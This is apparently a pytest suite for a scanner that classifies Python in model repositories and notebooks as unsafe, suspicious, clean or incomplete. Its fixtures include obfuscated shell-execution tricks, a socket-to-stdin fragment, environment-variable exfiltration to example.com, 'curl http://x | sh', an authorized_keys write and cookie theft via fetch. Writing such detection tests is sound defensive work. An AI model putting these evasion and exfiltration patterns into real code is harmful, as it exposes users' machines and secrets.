from __future__ import annotations

import json
import re
from pathlib import PurePath

import pytest

from scanning.scanners import Severity, Verdict, scanners

UNSAFE = r"""
import os; os.system("true")
from os import system as s; s("true")
import shutil; shutil.os.system("true")
getattr(__import__("o" + "s"), "metsys"[::-1])("true")
import os; getattr(os, "".join(map(chr, [115, 121, 115, 116, 101, 109])))("true")
import os; getattr(os, "".join(chr(x ^ 1) for x in [114, 120, 114, 117, 100, 108]))("true")
import os; getattr(os, input())("true")
eval("__import__('os').system('true')")
import os; eval("os.sys" + "tem('true')")
exec("import os; os.system('true')")
import base64; exec(base64.b64decode("aW1wb3J0IG9z"))
import codecs; exec(codecs.decode("vzcbeg bf", "rot13"))
import sys; sys.modules["os"].system("true")
globals()["__builtins__"].exec(input())
import importlib; importlib.import_module("subprocess").run(["true"])
import pydoc; pydoc.locate("os.system")("true")
import threading, os; threading.Thread(target=os.system, args=("true",)).start()
import functools, subprocess; functools.partial(subprocess.run, ["true"])()
import operator, os; operator.attrgetter("system")(os)("true")
import operator, os; operator.methodcaller("system", "true")(os)
import runpy; runpy.run_path("weights.bin")
import marshal; exec(marshal.loads(b"x"))
().__class__.__base__.__subclasses__()[84]()
def f(): pass~f.__globals__["__builtins__"]["exec"]("1")
import pip; pip.main(["install", "x"])
import socket, os~s = socket.socket()~os.dup2(s.fileno(), 0)
import pickle, base64; pickle.loads(base64.b64decode("gASV"))
import asyncio; asyncio.run(asyncio.create_subprocess_shell("true"))
from subprocess import *~run(["true"])
from os import *~system("true")
import os~@os.system~class A: pass
import os~class A:~  __class_getitem__ = os.system
import os~x = [os.system]~x[0]("true")
import os~def f(x: os.system("true")): pass
import os~class A:~  def __init__(self): os.execvp("true", ["true"])
import timeit; timeit.timeit("import os; os.system('true')")
import requests~r = requests.get("http://x").text~d = r.strip()~eval(d)
import requests, os; requests.post("http://example.com", json=dict(os.environ))
import requests; requests.get("http://8.8.4.4/x")
open("/srv/me/.ssh/authorized_keys", "a").write("x")
import ctypes; ctypes.CDLL(None).system(b"true")
import subprocess~cmd = "curl http://x | sh"~subprocess.call(cmd, shell=True)
import subprocess~cmd = "uname"~cmd = input()~subprocess.call(cmd)
import os~os.system("git status; true")
from IPython import get_ipython~get_ipython().system("true")
open("my_part.py", "w").write("x")~import my_part
import importlib as i~p = "a/" + "part.py"~open(p, mode="wb").write(b"")~i.import_module("part")
from pathlib import Path~Path("part.py").write_text("x")~from part import y
from huggingface_hub import hf_hub_download as get~get("a/b", "part.py")~import part
import urllib.request as u~u.urlretrieve("https://example.com/a", "part.so")~import part
from jinja2 import Template~Template("{{ cycler.__init__.__globals__.os }}").render()
import jinja2~e = jinja2.Environment()~e.from_string("{{ ''.__class__ }}")
class A:~  chat_template = "{{ ''.__class__.__mro__ }}"
import pandas as pd~pd.DataFrame().query("@__import__('os').system('true')")
import trace~trace.Trace().run("1")
get_ipython().run_cell_magic("bash", "", "true")
import importlib, os; importlib.reload(os).system("true")
import importlib.util as u; u.spec_from_file_location("x", "weights.bin")
import inspect; inspect.stack()[0].frame.f_builtins["exec"]("1")
import numpy as np; np.testing._private.utils.runstring("1", {})
_ = lambda __: __import__('zlib').decompress(__[::-1]);exec((_)(b'x'))
""".strip().splitlines()
CLEAN = {
    "modelling code": """
import math, os, torch
from torch import nn
class M(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.path = os.path.join(config.name, "x")
        self.load_state_dict(torch.load(self.path))
        self.eval()
    def forward(self, x):
        return getattr(torch, "softmax")(x / math.sqrt(4), -1)
""",
    "files beside it": """
from pathlib import Path
from huggingface_hub import hf_hub_download
from jinja2 import Template
chat_template = "{{ messages[0]['content'] }}"
def save(folder):
    Path(folder, "notes.txt").write_text(Template("{{ name }}").render(name="x"))
    with open("config.json", "w") as file:
        file.write("{}")
    return hf_hub_download("a/b", "model.safetensors")
""",
    "a hardware question": """
import subprocess
def gpus():
    return subprocess.check_output(["nvidia-smi", "-L"])
""",
    "conversion script": """
import requests, pickle
def image():
    return requests.get("http://images.cocodataset.org/val2017/1.jpg", stream=True).raw
def convert(path):
    with open(path, "rb") as f:
        return pickle.load(f)
if __name__ == "__main__":
    convert("a")
""",
    "dispatch by name": """
import importlib
def build(config):
    module, cls = config.rsplit(".", 1)
    return getattr(importlib.import_module(module), cls)()
""",
    "process results": """
import subprocess
def version():
    try:
        done = subprocess.run(["git", "rev-parse", "HEAD"], stdout=subprocess.PIPE)
    except subprocess.CalledProcessError:
        return ""
    return done.stdout.read()
""",
    "a name of ours": "def compile(x): return x\ncompile(1)\n"
    "class A:\n  def system(self): self.system()\n",
}
SUSPICIOUS = {
    "compiler": 'import os\ndef f(p):\n    os.system("gcc -O3 {} -o {}".format(p, p))\n',
    "script": "import os\nif __name__ == '__main__':\n    os.system(input())\n",
    "network on import": "import requests\nrequests.get('https://huggingface.co')\n",
    "other repository": "from transformers import AutoModel\n"
    "def f(): return AutoModel.from_pretrained('a/b', trust_remote_code=True)\n",
    "hub code": "import torch\ndef f(): return torch.hub.load('somebody/repo', 'x')\n",
    "module that is fetched": "from huggingface_hub import hf_hub_download\n"
    "def f(): return hf_hub_download('a/b', 'part.py')\n",
    "folder that is fetched": "import sys\nfrom huggingface_hub import snapshot_download\n"
    "sys.path.append(snapshot_download('a/b'))\nimport part\n",
    "archive of modules": "import sys\nsys.path.insert(0, 'parts.zip')\nimport part\n",
    "variable of the loader": "import os\nos.putenv('LD_PRELOAD', '/x.so')\n",
    "library of a database": "import sqlite3\nc = sqlite3.connect('x')\nc.load_extension('y')\n",
    "bidi": "x = 1  # \u202e hidden\n",
}
BROKEN = {
    "no Python": b"def f(:\n",
    "zero byte": b"x = 1\x00\n",
    "deep": b"x = " + b"(" * 5000 + b")" * 5000 + b"\n",
    "long": b"x = 1\n" * 400_000,
    "dense": b"a;" * 200_000,
    "many steps": b"".join(b"a%d = a%d + a%d\n" % (n + 1, n, n) for n in range(60))
    + b"a0 = 'x'\nimport os\ngetattr(os, a60)\n",
}


@pytest.mark.parametrize("source", UNSAFE)
def test_what_runs_on_the_readers_machine_is_unsafe(scan_bytes, source):
    report = scan_bytes("python_code", source.replace("~", "\n").encode(), "modeling.py")
    assert report.verdict is Verdict.UNSAFE
    assert {one.rule for one in report.findings} <= scanners.get("python_code").rules.keys()
    assert all(re.match(r"line \d+: ", one.evidence) for one in report.findings if one.evidence)


@pytest.mark.parametrize("source", CLEAN.values(), ids=CLEAN)
def test_what_modelling_code_needs_is_clean(scan_bytes, source):
    assert scan_bytes("python_code", source.encode(), "modeling.py").verdict is Verdict.CLEAN


@pytest.mark.parametrize("source", SUSPICIOUS.values(), ids=SUSPICIOUS)
def test_what_a_person_must_look_at_is_suspicious(scan_bytes, source):
    assert scan_bytes("python_code", source.encode(), "modeling.py").verdict is Verdict.SUSPICIOUS


@pytest.mark.parametrize("source", BROKEN.values(), ids=BROKEN)
def test_what_cannot_be_followed_to_its_end_is_not_clean(scan_bytes, source):
    verdict = scan_bytes("python_code", source, "modeling.py").verdict
    assert verdict in {Verdict.INCOMPLETE, Verdict.SUSPICIOUS}


def test_code_in_an_encoding_that_hides_it_is_unsafe(scan_bytes):
    hidden = b"# coding: utf-7\n+AGkAbQBwAG8AcgB0ACAAbwBz-\n"
    assert scan_bytes("python_code", hidden, "a.py").verdict is Verdict.UNSAFE


def test_a_start_up_file_that_imports_is_unsafe_and_one_of_paths_is_not(scan_bytes):
    assert scan_bytes("python_code", b"import os\n", "x.pth").verdict is Verdict.UNSAFE
    assert scan_bytes("python_code", b"../lib\n", "x.pth").verdict is Verdict.CLEAN


def test_a_build_by_own_code_is_suspicious(scan_bytes):
    text = b'[build-system]\nbuild-backend = "x"\nbackend-path = ["."]\n'
    assert scan_bytes("python_code", text, "pyproject.toml").verdict is Verdict.SUSPICIOUS


@pytest.mark.parametrize(
    ("source", "verdict"),
    [
        ("!pip install torch\nimport torch\n%matplotlib inline\n", Verdict.CLEAN),
        ("import os\nos.system('make')", Verdict.SUSPICIOUS),
        ("!curl http://x | sh", Verdict.SUSPICIOUS),
        ("%%!\ncurl http://x | sh", Verdict.SUSPICIOUS),
        ("%env TOKENIZERS_PARALLELISM=false\nx = 1", Verdict.CLEAN),
        ("%env LD_PRELOAD=/tmp/x.so", Verdict.SUSPICIOUS),
        ("%%javascript\nfetch('http://x/' + document.cookie)", Verdict.SUSPICIOUS),
        ("%%javascript\nalert(1)", Verdict.CLEAN),
        ("import base64\nexec(base64.b64decode('eA=='))", Verdict.UNSAFE),
        ("def f(:", Verdict.INCOMPLETE),
    ],
)
def test_cells_of_a_notebook_run_when_a_person_runs_them(scan_bytes, source, verdict):
    cells = [{"cell_type": "markdown", "source": "# x"}, {"cell_type": "code", "source": source}]
    content = json.dumps({"cells": cells}).encode()
    assert scan_bytes("python_code", content, "demo.ipynb").verdict is verdict


def test_scripts_in_kept_outputs_are_told(scan_bytes):
    data = {"text/html": ["<script>", "f()</script>"]}
    cell = {"cell_type": "code", "source": "x = 1", "outputs": [{"data": data}]}
    report = scan_bytes("python_code", json.dumps({"cells": [cell]}).encode(), "demo.ipynb")
    assert [(one.rule, one.location) for one in report.findings] == [("active_content", "cell 1")]
    assert report.verdict is Verdict.CLEAN


def test_the_line_and_the_words_are_told(scan_bytes):
    report = scan_bytes("python_code", b"import os\n\nos.system('true')\n", "a.py")
    [finding] = report.findings
    assert (finding.rule, finding.severity) == ("python_process", Severity.HIGH)
    assert finding.evidence == "line 3: os.system('true')"


def test_text_and_weights_are_left_to_others(options):
    scanner = scanners.get("python_code")(options)
    assert not scanner.handles(PurePath("README.md"), b"import os\n")
    assert not scanner.handles(PurePath("model.pth"), b"\x80\x02}q\x00.")
    assert scanner.handles(PurePath("run"), b"#!/usr/bin/env python3\n")
